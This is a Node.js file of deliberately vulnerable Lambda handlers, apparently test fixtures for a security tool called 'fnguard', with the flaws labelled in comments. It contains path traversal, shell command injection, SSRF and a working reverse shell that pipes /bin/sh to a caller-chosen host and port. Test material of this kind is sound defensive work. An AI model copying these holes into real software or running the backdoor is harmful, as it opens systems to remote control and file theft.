// Deliberately vulnerable Lambda handlers (Node.js) for fnguard's demos and
// tests; never deploy them. The same bugs as ../python/app.py:
//   readFile  reads the file named by ?file=            (local file inclusion)
//   ping      runs `echo pinging HOST` through a shell   (command injection)
//   fetchUrl  fetches ?url=                              (SSRF)
//   backdoor  spawns sh connected out to ?host=&port=    (reverse shell)
//   hello     benign
'use strict';
const fs = require('fs');
const path = require('path');
const net = require('net');
const http = require('http');
const { execSync, spawn } = require('child_process');

const params = (event) => (event && event.queryStringParameters) || {};
const respond = (statusCode, body) => ({ statusCode, headers: { 'content-type': 'text/plain' }, body });

exports.readFile = async (event) => {
  const name = params(event).file || 'README.txt';
  // BUG: ../ and absolute paths escape public/.
  return respond(200, fs.readFileSync(path.resolve(__dirname, 'public', name), 'utf8'));
};

exports.ping = async (event) => {
  const host = params(event).host || '127.0.0.1';
  try {
    // BUG: the parameter is pasted into a shell command line.
    return respond(200, execSync('echo pinging ' + host, { encoding: 'utf8' }));
  } catch (err) {
    return respond(500, String(err.message));
  }
};

exports.fetchUrl = (event) => new Promise((resolve) => {
  const url = params(event).url || '';
  try {
    // BUG: any URL, any host.
    const req = http.get(url, { timeout: 3000 }, (res) => {
      let body = '';
      res.on('data', (c) => { body += c; });
      res.on('end', () => resolve(respond(200, body)));
    });
    req.on('error', (err) => resolve(respond(502, 'fetch failed: ' + err.message)));
    req.on('timeout', () => { req.destroy(new Error('timeout')); });
  } catch (err) {
    resolve(respond(502, 'fetch failed: ' + err.message));
  }
});

exports.backdoor = (event) => new Promise((resolve) => {
  const p = params(event);
  const sock = net.connect(Number(p.port || 4444), p.host || '127.0.0.1');
  sock.on('error', (err) => resolve(respond(502, 'connect failed: ' + err.message)));
  sock.on('connect', () => {
    const sh = spawn('/bin/sh', ['-i']);
    sh.on('error', (err) => { sock.destroy(); resolve(respond(502, 'spawn failed: ' + err.message)); });
    sock.pipe(sh.stdin);
    // Both outputs go to the socket, which is ended once, when the shell is
    // gone: with the default {end: true} the first output to reach its end
    // (often stderr) would end the socket while the other still had data.
    sh.stdout.pipe(sock, { end: false });
    sh.stderr.pipe(sock, { end: false });
    sh.on('close', () => { sock.end(); resolve(respond(200, 'done')); });
  });
});

exports.hello = async (event, context) => ({
  statusCode: 200,
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ hello: params(event).name || 'world', request_id: context.awsRequestId }),
});
